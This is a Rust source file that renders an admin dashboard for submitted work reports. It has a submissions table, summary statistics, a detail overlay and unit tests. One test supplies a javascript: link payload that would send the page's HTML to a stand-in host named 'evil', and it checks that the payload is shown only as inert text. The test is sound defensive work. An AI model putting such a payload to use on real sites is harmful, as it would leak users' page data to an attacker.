//! Admin dashboard: summary counts, submissions table and the detail overlay.

use maud::{html, Markup};

use super::{error_banner, format_timestamp, page};
use crate::models::{DashboardStats, Submission};

const PREVIEW_CHARS: usize = 50;

pub struct DashboardView<'a> {
    pub rows: &'a [Submission],
    pub stats: DashboardStats,
    pub error: Option<String>,
    pub selected: Option<&'a Submission>,
}

pub fn dashboard_page(view: &DashboardView<'_>) -> Markup {
    page(
        "Admin Dashboard",
        html! {
            @if let Some(selected) = view.selected {
                (detail_overlay(selected))
            }
            div class="max-w-7xl mx-auto py-8 px-4" {
                div class="bg-white rounded-xl shadow-lg p-6 mb-6 border-t-4 border-green-600" {
                    div class="flex justify-between items-center" {
                        div {
                            h1 class="text-3xl font-bold text-green-800" { "Admin Dashboard" }
                            p class="text-green-600" { "प्रशासक डैशबोर्ड" }
                        }
                        div class="flex gap-3" {
                            a id="refresh" href="/admin/dashboard" class="bg-green-600 hover:bg-green-700 text-white font-semibold px-4 py-2 rounded-lg" { "Refresh" }
                            form method="post" action="/admin/logout" {
                                button type="submit" class="bg-red-500 hover:bg-red-600 text-white font-semibold px-4 py-2 rounded-lg" { "Logout" }
                            }
                        }
                    }
                    div class="mt-6 grid grid-cols-1 md:grid-cols-3 gap-4" {
                        (stat_card("stat-total", "Total Submissions", view.stats.total))
                        (stat_card("stat-unique-users", "Unique Users", view.stats.unique_users))
                        (stat_card("stat-with-images", "With Images", view.stats.with_images))
                    }
                }

                @if let Some(error) = &view.error {
                    (error_banner(error))
                    a href="/admin/dashboard" class="text-green-700 underline" { "Retry" }
                } @else if view.rows.is_empty() {
                    div class="bg-white rounded-xl shadow-lg p-12 text-center text-green-700" {
                        "No submissions yet"
                    }
                } @else {
                    div class="bg-white rounded-xl shadow-lg overflow-x-auto" {
                        table class="min-w-full divide-y divide-green-200" {
                            thead class="bg-green-600 text-white text-left text-sm" {
                                tr {
                                    th class="px-4 py-3" { "ID" }
                                    th class="px-4 py-3" { "Submitted On" }
                                    th class="px-4 py-3" { "Email" }
                                    th class="px-4 py-3" { "जिला (District)" }
                                    th class="px-4 py-3" { "स्थान (Place)" }
                                    th class="px-4 py-3" { "Completed By" }
                                    th class="px-4 py-3" { "Work Description" }
                                    th class="px-4 py-3" { "Result" }
                                    th class="px-4 py-3" { "Image" }
                                }
                            }
                            tbody class="divide-y divide-green-100 text-sm" {
                                @for row in view.rows {
                                    (table_row(row))
                                }
                            }
                        }
                    }
                }
            }
        },
    )
}

fn stat_card(id: &str, label: &str, value: usize) -> Markup {
    html! {
        div class="bg-green-50 rounded-lg p-4 border border-green-200" id=(id) {
            p class="text-green-600 text-sm font-semibold" { (label) }
            p class="text-3xl font-bold text-green-800" { (value) }
        }
    }
}

fn table_row(row: &Submission) -> Markup {
    let detail_href = detail_link(row);
    html! {
        tr class="hover:bg-green-50" {
            td class="px-4 py-3 font-mono text-xs" { (row.id.to_string()) }
            td class="px-4 py-3 whitespace-nowrap" { (format_timestamp(row.submitted_on())) }
            td class="px-4 py-3" { (or_na(&row.user_email)) }
            td class="px-4 py-3" { (or_na(&row.district)) }
            td class="px-4 py-3" { (or_na(&row.place)) }
            td class="px-4 py-3" { (or_na(&row.completed_by)) }
            td class="px-4 py-3" {
                a href=(detail_href) class="text-green-800 hover:underline" { (preview(&row.work_description)) }
            }
            td class="px-4 py-3" {
                a href=(detail_href) class="text-green-800 hover:underline" { (preview(&row.result)) }
            }
            td class="px-4 py-3" {
                @if let Some(link) = row.web_link() {
                    a href=(link) target="_blank" rel="noopener noreferrer"
                        class="text-blue-600 underline" { "View" }
                } @else if row.has_link() {
                    span class="text-gray-500" title=(row.google_drive_link.as_deref().unwrap_or_default()) { "Invalid link" }
                } @else {
                    span class="text-gray-400" { "No image" }
                }
            }
        }
    }
}

fn detail_overlay(row: &Submission) -> Markup {
    html! {
        div id="detail-overlay" class="fixed inset-0 bg-black bg-opacity-60 flex items-center justify-center z-50 p-4" {
            div class="bg-white rounded-2xl shadow-2xl max-w-4xl w-full max-h-[90vh] overflow-y-auto" {
                div class="sticky top-0 bg-green-600 text-white p-6 rounded-t-2xl flex justify-between items-center" {
                    div {
                        h2 class="text-2xl font-bold" { "Submission Details" }
                        p class="text-green-100 text-sm mt-1" { "ID: " (row.id.to_string()) }
                    }
                    a href="/admin/dashboard" class="text-white text-2xl px-2" aria-label="Close" { "×" }
                }
                div class="p-6 space-y-6" {
                    (detail_section("User Information", html! {
                        (detail_item("Email", &or_na(&row.user_email)))
                        (detail_item("User ID", &or_na(&row.user_id)))
                        (detail_item("Submitted On", &format_timestamp(row.submitted_on())))
                    }))
                    (detail_section("Location Details", html! {
                        (detail_item("जिला (District)", &or_na(&row.district)))
                        (detail_item("स्थान (Place)", &or_na(&row.place)))
                    }))
                    (detail_section("Completed By", html! {
                        (detail_item("कार्य सम्पन्न", &or_na(&row.completed_by)))
                    }))
                    (detail_section("कार्य का विवरण (Work Description)", html! {
                        p class="text-gray-700 whitespace-pre-wrap leading-relaxed" {
                            (row.work_description.as_deref().unwrap_or("No description provided"))
                        }
                    }))
                    (detail_section("परिणाम (Result)", html! {
                        p class="text-gray-700 whitespace-pre-wrap leading-relaxed" {
                            (row.result.as_deref().unwrap_or("No result provided"))
                        }
                    }))
                    (detail_section("चित्र (Google Drive Link)", html! {
                        @if let Some(link) = row.web_link() {
                            a href=(link) target="_blank" rel="noopener noreferrer" class="text-blue-600 underline break-all" { (link) }
                        } @else if row.has_link() {
                            p class="text-gray-700 break-all" { (row.google_drive_link.as_deref().unwrap_or_default()) }
                        } @else {
                            p class="text-gray-400" { "No image link provided" }
                        }
                    }))
                }
                div class="p-6 border-t text-right" {
                    a href="/admin/dashboard" class="bg-green-600 hover:bg-green-700 text-white font-semibold px-6 py-2 rounded-lg" { "Close" }
                }
            }
        }
    }
}

fn detail_section(title: &str, content: Markup) -> Markup {
    html! {
        section class="bg-green-50 rounded-lg p-4 border border-green-200" {
            h3 class="text-lg font-bold text-green-800 mb-3" { (title) }
            (content)
        }
    }
}

fn detail_item(label: &str, value: &str) -> Markup {
    html! {
        div class="mb-2" {
            p class="text-sm text-green-600 font-semibold" { (label) }
            p class="text-green-900" { (value) }
        }
    }
}

fn detail_link(row: &Submission) -> String {
    let id: String = url::form_urlencoded::byte_serialize(row.id.to_string().as_bytes()).collect();
    format!("/admin/dashboard?selected={}", id)
}

fn or_na(value: &Option<String>) -> String {
    match value.as_deref() {
        Some(v) if !v.trim().is_empty() => v.to_string(),
        _ => "N/A".to_string(),
    }
}

/// First characters of a long text; counts chars, not bytes, so Devanagari is never split.
fn preview(value: &Option<String>) -> String {
    let text = or_na(value);
    if text.chars().count() <= PREVIEW_CHARS {
        text
    } else {
        let mut cut: String = text.chars().take(PREVIEW_CHARS).collect();
        cut.push('…');
        cut
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::models::SubmissionId;

    #[test]
    fn test_preview_counts_chars() {
        let long = Some("पौधारोपण ".repeat(20));
        let cut = preview(&long);
        assert_eq!(cut.chars().count(), PREVIEW_CHARS + 1);
        assert!(cut.ends_with('…'));
        assert_eq!(preview(&None), "N/A");
    }

    fn row(id: SubmissionId, link: Option<&str>) -> Submission {
        Submission {
            id,
            created_at: None,
            submitted_at: None,
            user_email: None,
            user_id: None,
            district: None,
            place: None,
            completed_by: None,
            work_description: None,
            result: None,
            google_drive_link: link.map(str::to_string),
        }
    }

    fn render(rows: &[Submission], selected: Option<&Submission>) -> String {
        let view = DashboardView {
            rows,
            stats: DashboardStats::from_rows(rows),
            error: None,
            selected,
        };
        dashboard_page(&view).into_string()
    }

    #[test]
    fn test_detail_link_encodes_id() {
        let row = row(SubmissionId::Text("a b".to_string()), None);
        assert_eq!(detail_link(&row), "/admin/dashboard?selected=a+b");
    }

    #[test]
    fn test_script_link_rendered_as_text() {
        let rows = vec![row(
            SubmissionId::Number(7),
            Some("javascript:fetch('//evil/'+document.body.innerHTML)"),
        )];
        let html = render(&rows, rows.first());

        assert!(!html.contains("href=\"javascript:"));
        assert!(html.contains("Invalid link"));
        // Still counted as a row with an image link.
        assert_eq!(DashboardStats::from_rows(&rows).with_images, 1);
    }

    #[test]
    fn test_web_link_rendered_as_anchor() {
        let link = "https://drive.google.com/drive/folders/abc";
        let rows = vec![row(SubmissionId::Number(8), Some(link))];
        let html = render(&rows, rows.first());

        assert_eq!(html.matches(&format!("href=\"{}\"", link)).count(), 2);
    }

    #[test]
    fn test_header_has_refresh_link() {
        let html = render(&[], None);
        assert!(html.contains("id=\"refresh\" href=\"/admin/dashboard\""));
    }
}
